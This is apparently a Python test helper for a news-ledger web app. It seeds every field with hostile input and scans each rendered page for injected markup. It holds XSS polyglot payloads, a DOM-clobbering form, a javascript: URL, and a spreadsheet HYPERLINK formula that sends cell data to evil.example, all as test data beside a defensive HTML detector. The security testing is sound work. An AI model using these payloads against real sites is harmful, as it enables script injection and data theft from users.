"""A ledger in which every field tries to run a script, and all pages of the desk on it."""

import json
import re
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote

from fastapi.routing import APIRoute

from accordingto.ledger.ledger import Ledger, Opening
from accordingto.web.pages import PAGES
from tests.formats.references import write_reference
from tests.web.desks import Client, opened
from tests.web.waiting import done

PAYLOAD = (
    "\"'><img src=x onerror=window.hit=1><script>window.hit=1</script>"
    "</textarea></title></select></style><svg/onload=window.hit=1>`${window.hit=1}{{7*7}}"
)
CLOBBER = '<form id=main name=csrf><input id=told name=querySelector></form><a id="job"></a>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
TURNED = "\u202e1\u2066\u200b2\x1b[2J"
HOSTILE = (PAYLOAD, CLOBBER, FORMULA, TURNED)
WHO = '"><b onclick=hit()>Eve'
"""A reviewer's name; longer ones are refused."""


def report(number: int, words: str) -> dict[str, object]:
    text = (
        f"Shelling killed at least 12 people in Aleppo on Tuesday, {words} said. "
        f"The Army of {words} denied it. A truce between {words} and the rebels broke down. "
        f"“{words}”, said the head of the hospital, Ilvar {words}."
    )
    named = {"id": f"r{number}{words}", "title": f"{words} in Aleppo", "publisher": words}
    return {
        **named,
        "text": text,
        "published": f"2024-03-1{number}",
        "url": f"javascript:window.hit={number}//{words}",
        "agencies": [words],
        words: words,
    }


def entry(words: str) -> dict[str, object]:
    fields = ("title", "publisher", "description", "translation", "translated_by", "place")
    source = ("source_name", "source_role", "source_affiliation", "weapon")
    return {
        "kind": "call",
        "received": "2024-03-12",
        "quote": f"Twelve people were killed. {words}",
        **dict.fromkeys((*fields, *source), words[:200]),
        "incident_kind": "shelling",
        "date_from": "2024-03-12",
        "date_to": "2024-03-12",
        "country": "SY",
        "blame_actor": [words[:200]],
        "blame_mode": ["accused"],
        "figure_state": ["killed"],
        "figure_low": ["12"],
        "figure_high": ["12"],
        "figure_who": ["civilian"],
        "figure_words": [words[:200]],
    }


def make_hostile(folder: Path) -> Path:
    """Make the ledger through the desk's own doors."""
    path = folder / "hostile.ledger"
    Ledger.open(path, Opening.MAKE).close()
    with opened(path, reviewer=WHO) as desk, Client(desk) as client:
        rows = [report(number, words) for number, words in enumerate(HOSTILE)]
        raw = "".join(json.dumps(row) + "\n" for row in rows).encode()
        mark = {"csrf": client.session.csrf}
        files = [("files", (f"{PAYLOAD}.jsonl", raw)), ("files", (f"{PAYLOAD}.txt", b"\0"))]
        page = done(client, client.post("/add/files", data=mark, files=files))
        assert [one["news"] for one in page["added"]["reports"]] == ["new"] * 4 + ["refused"]
        for words in HOSTILE:
            assert done(client, client.act("/add/entry", entry(words)))["added"]["counts"]
        reference = write_reference(
            folder / "ged.csv", {"side_a": PAYLOAD, "where_coordinates": PAYLOAD}
        )
        sent = {**mark, "name": PAYLOAD[:150]}
        given = {"file": ("ged.csv", reference.read_bytes())}
        assert client.post("/check/files", data=sent, files=given).status_code == 200
        for code in codes_in(client):
            for path_, body in (
                ("note", {"text": PAYLOAD}),
                ("note", {"why": PAYLOAD}),
                ("assignee", {"assignee": WHO}),
            ):
                client.act(f"/cases/{code}/{path_}", body)
    return path


def codes_in(client: Client) -> list[str]:
    return [one["id"] for one in client.get("/export/cases.json").json()["rows"]]


def examples(client: Client) -> dict[str, list[str]]:
    """What stands for the parameters of paths."""
    reports = client.get("/export/reports.json").json()["rows"]
    steps = client.get("/export/agreements.json").json()["rows"]
    keys = [one["publication"] for one in reports]
    sheet = f"Case no,Date,{PAYLOAD}\n{PAYLOAD},2024-03-12,{FORMULA}\n"
    mark = {"csrf": client.session.csrf}
    brought = client.post(
        "/add/sheet", data=mark, files={"file": (f"{PAYLOAD}.csv", sheet.encode())}
    )
    text = client.post_form("/add/text", text=PAYLOAD, title=PAYLOAD)
    done(client, text)
    return {
        "code": codes_in(client),
        "report": keys,
        "other": keys[1:2],
        "record": [one["record"]["id"] for one in steps][:2],
        "form": ["markdown", "html", "figures.csv", "cases.json"],
        "job_id": [text.url.path.rpartition("/")[2]],
        "draft": [brought.url.path.rpartition("/")[2]],
        "name": ["brief"],
    }


def routes(method: str) -> list[str]:
    """Every path of the desk that answers to a method, as HTML."""
    every = (route for pages in PAGES for route in pages.html.routes)
    return [one.path for one in every if isinstance(one, APIRoute) and method in one.methods]


def pages_of(client: Client, most: int = 100) -> list[str]:
    """Every page, with examples in the place of its parameters."""
    known = examples(client)
    found: list[str] = []
    for path in routes("GET"):
        names = re.findall(r"{(\w+)(?::path)?}", path)
        missing = [name for name in names if name not in known]
        assert not missing, f"say in `examples` what stands for {missing} of {path}"
        fillings = max((len(known[name]) for name in names), default=1)
        for number in range(min(fillings, most)):
            filled = path
            for name in names:
                value = known[name][min(number, len(known[name]) - 1)]
                filled = re.sub(rf"{{{name}(:path)?}}", lambda _, v=value: quote(v), filled)
            found.append(filled)
    return found


def addresses(client: Client) -> list[str]:
    """Every page, and those that every front page leads to with hostile filters."""
    found = pages_of(client)
    hostile = quote(PAYLOAD)
    some = [path for path in found if path.count("/") == 1]
    found += [f"{path}?text={hostile}&place={hostile}&publisher={hostile}" for path in some]
    found += [f"{path}?from={hostile}&kind={hostile}" for path in some]
    found += [f"/nope/{hostile}", f"/cases/{hostile}", f"/reports/{hostile}"]
    return found


class Suspect(HTMLParser):
    """Lists what no page of ours may hold."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self._in_script = tag == "script"
        if tag in {"style", "iframe", "object", "embed", "base", "frame", "applet", "img"}:
            self.faults.append(f"<{tag}>")
        if tag == "script" and not given.get("src", "").startswith("/static/"):
            self.faults.append("a script in the page")
        for name, value in given.items():
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "ping"}:
                self.faults.append(f"{tag} {name}={value[:40]}")
            if name in {"href", "src", "action"} and not _LEADS.match(value):
                self.faults.append(f"{tag} {name}={value[:40]}")
            if name in {"id", "name", "for"} and not _NAME.fullmatch(value):
                self.faults.append(f"{tag} {name}={value[:40]}")

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.faults.append(f"a script's words: {data[:40]}")

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False


_LEADS = re.compile(r"/(?!/)|#|\?|https?://|\Z")
_NAME = re.compile(r"[A-Za-z][A-Za-z0-9_:.~-]*")


def faults_of(html: str) -> list[str]:
    suspect = Suspect()
    suspect.feed(html)
    return suspect.faults
